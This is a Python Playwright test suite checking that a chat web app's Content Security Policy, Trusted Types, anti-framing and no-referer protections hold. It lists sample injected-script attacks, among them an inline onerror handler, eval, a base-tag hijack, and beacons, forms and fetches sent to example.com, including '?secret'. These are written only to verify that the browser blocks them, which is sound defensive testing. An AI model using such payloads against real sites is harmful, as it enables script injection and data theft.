"""What the page cannot be made to do, and what it never tells anyone."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import Browser

from duologue.server.protection import EMBEDDABLE, PROTECTED, WORKER
from tests.e2e.conftest import Visit
from tests.e2e.place import Place
from tests.e2e.tap import Tap
from tests.e2e.visitor import Visitor

NOTE_VIOLATIONS = """globalThis.violations = [];
addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
  violations.push(`${effectiveDirective} ${blockedURI}`);
});"""

ATTACKS = {
    "an inline script": """() => {
      const script = document.createElement("script");
      script.append("globalThis.isHacked = true");
      document.body.append(script);
    }""",
    "an inline handler": """() => {
      const image = document.createElement("img");
      image.setAttribute("onerror", "globalThis.isHacked = true");
      image.setAttribute("src", "/no-such-image");
      document.body.append(image);
    }""",
    "markup": """() => {
      document.body.innerHTML = "<img src=/no-such-image onerror='isHacked = true'>";
      globalThis.isHacked = true;
    }""",
    "text as code": "() => (0, eval)('globalThis.isHacked = true')",
    "a timer of text": "() => setTimeout('globalThis.isHacked = true', 0)",
    "a script by its address": """() => {
      document.createElement("script").src = "/client.js";
      globalThis.isHacked = true;
    }""",
    "a policy for scripts": """() => {
      trustedTypes.createPolicy("attack", { createScript: text => text });
      globalThis.isHacked = true;
    }""",
    "the page's own policy": """() => {
      trustedTypes.createPolicy("duologue", { createScript: text => text });
      globalThis.isHacked = true;
    }""",
    "a request elsewhere": """async () => {
      await fetch("https://example.com/");
      globalThis.isHacked = true;
    }""",
    "a connection elsewhere": "() => { new WebSocket('wss://example.com/'); }",
    "an image from elsewhere": "() => { new Image().src = 'https://example.com/?secret'; }",
    "a form sent elsewhere": """() => {
      const form = document.createElement("form");
      form.action = "https://example.com/";
      document.body.append(form);
      form.submit();
    }""",
    "another base": """() => {
      const base = document.createElement("base");
      base.href = "https://example.com/";
      document.head.append(base);
      if (document.baseURI.startsWith("https://example.com/")) globalThis.isHacked = true;
    }""",
}
"""What someone would do who had found a way to run a script in the page."""


async def test_a_browser_sees_the_headers_that_protect(browser: Browser, place: Place) -> None:
    async with await browser.new_context(service_workers="block") as context:
        page = await context.new_page()
        protections = {"/": PROTECTED, "/client.js": EMBEDDABLE, "/service-worker.js": WORKER}
        seen = {}
        for path in protections:
            response = await page.goto(place.url + path[1:])
            assert response is not None
            seen[path] = await response.all_headers()
        assert {
            path: {name: seen[path][name.lower()] for name, _ in fields}
            for path, fields in protections.items()
        } == {path: dict(fields) for path, fields in protections.items()}


async def test_a_whole_conversation_keeps_to_the_policy(browser: Browser, place: Place) -> None:
    async with await browser.new_context() as one, await browser.new_context() as other:
        await one.add_init_script(NOTE_VIOLATIONS)
        await other.add_init_script(NOTE_VIOLATIONS)
        alice = await Visitor.arrive(one, place.url)
        bob = await Visitor.arrive(other, place.url)
        await _talk(alice, bob)
        assert await alice.page.evaluate("violations") == []
        assert await bob.page.evaluate("violations") == []
        # The console still knows of those before a reload.
        assert alice.complaints + bob.complaints == []


async def _talk(alice: Visitor, bob: Visitor) -> str:
    """Do all that a conversation has, from an invitation by link to leaving."""
    code = await alice.create_room("Alice")
    await bob.page.goto(f"{bob.page.url}#{code}")
    await bob.page.locator("#name").fill("Bob")
    await bob.page.locator("#invited-join").click()
    await alice.meets("Bob")
    await alice.say("Look: https://example.com/page <b>now</b>")
    await bob.say("👍")
    await alice.reads("Look: https://example.com/page <b>now</b>", "👍")
    await alice.page.locator("#chat-room").click()
    await alice.page.keyboard.press("Escape")
    await alice.page.locator("#chat-settings").click()
    await alice.page.keyboard.press("Escape")
    await bob.page.reload()
    await bob.reads("Look: https://example.com/page <b>now</b>", "👍")
    await alice.leave()
    return code


@pytest.mark.parametrize("attack", ATTACKS)
async def test_the_browser_blocks(browser: Browser, place: Place, attack: str) -> None:
    async with await browser.new_context(service_workers="block") as context:
        await context.add_init_script(NOTE_VIOLATIONS)
        page = await context.new_page()
        await page.goto(place.url)
        # A debugger may do what a page may not; what a timer calls is the page's again.
        await page.evaluate(f"() => {{ setTimeout({ATTACKS[attack]}, 0); }}")
        await page.wait_for_function("() => violations.length > 0")
        assert await page.evaluate("globalThis.isHacked") is None
        assert page.url == place.url


async def test_no_request_goes_elsewhere_or_tells_the_code(
    browser: Browser, place: Place
) -> None:
    asked: list[str] = []
    async with (
        Tap(place.network.port) as tap,
        await browser.new_context() as one,
        await browser.new_context() as other,
    ):
        for context in (one, other):
            context.on("request", lambda request: asked.append(request.url))
        alice = await Visitor.arrive(one, tap.url)
        bob = await Visitor.arrive(other, tap.url)
        code = await _talk(alice, bob)
        # What is said on a WebSocket is masked; the head of each request is not.
        heads = [bytes(wire.sent) for wire in tap.wires]
    assert tap.requests
    assert [url for url in asked if not url.startswith(tap.url)] == []
    assert [head for head in heads if code.encode() in head or b"referer" in head.lower()] == []


FRAMING = '<!doctype html><iframe src="{url}"></iframe>'
IMPORTING = "<!doctype html><title>Elsewhere</title>"


@asynccontextmanager
async def serving(html: str) -> AsyncIterator[str]:
    """Serve one page from an origin of its own, and return its address."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        body = html.encode()
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
            b"Content-Length: %d\r\n\r\n%s" % (len(body), body)
        )
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/"


async def test_no_page_can_frame_this_one(browser: Browser, place: Place) -> None:
    async with (
        serving(FRAMING.format(url=place.url)) as elsewhere,
        await browser.new_context() as context,
    ):
        page = await context.new_page()
        await page.goto(elsewhere)
        assert page.frames[1].url == "chrome-error://chromewebdata/"


async def test_a_page_from_elsewhere_can_chat_with_the_client_library_if_it_is_listed(
    visit: Visit, browser: Browser, place: Place
) -> None:
    async with serving(IMPORTING) as elsewhere, await browser.new_context() as context:
        place.kill()
        await place.start_again(DUOLOGUE_ALLOW_ORIGIN=elsewhere)
        alice = await visit()
        code = await alice.create_room("Alice")
        page = await context.new_page()
        await page.goto(elsewhere)
        await page.evaluate(CONNECT_FROM_ELSEWHERE, [f"{place.url}client.js", code])
        await alice.meets("Bob")
        await alice.say("Where are you?")
        heard = await page.evaluate("heard")
        await alice.progress("read")
    assert heard == ["Alice", "Where are you?"]


async def test_a_page_from_elsewhere_cannot_connect_else(
    browser: Browser, place: Place
) -> None:
    async with serving(IMPORTING) as elsewhere, await browser.new_context() as context:
        page = await context.new_page()
        ends = []
        for where in (elsewhere, place.url):
            await page.goto(where)
            ends.append(await page.evaluate(OPEN_AND_CLOSE, place.websocket_url))
    assert ends == [1006, 1000]


OPEN_AND_CLOSE = """url => new Promise(resolve => {
  const socket = new WebSocket(url);
  socket.onopen = () => socket.close(1000);
  socket.onclose = ({ code }) => resolve(code);
})"""
CONNECT_FROM_ELSEWHERE = """async ([library, code]) => {
  const { connect } = await import(library);
  const client = connect({ name: "Bob" });
  globalThis.heard = new Promise(resolve => {
    client.addEventListener("chat", ({ detail }) => {
      client.markRead(detail);
      resolve([detail.sender, detail.content]);
    });
  });
  await client.joinRoom(code);
}"""
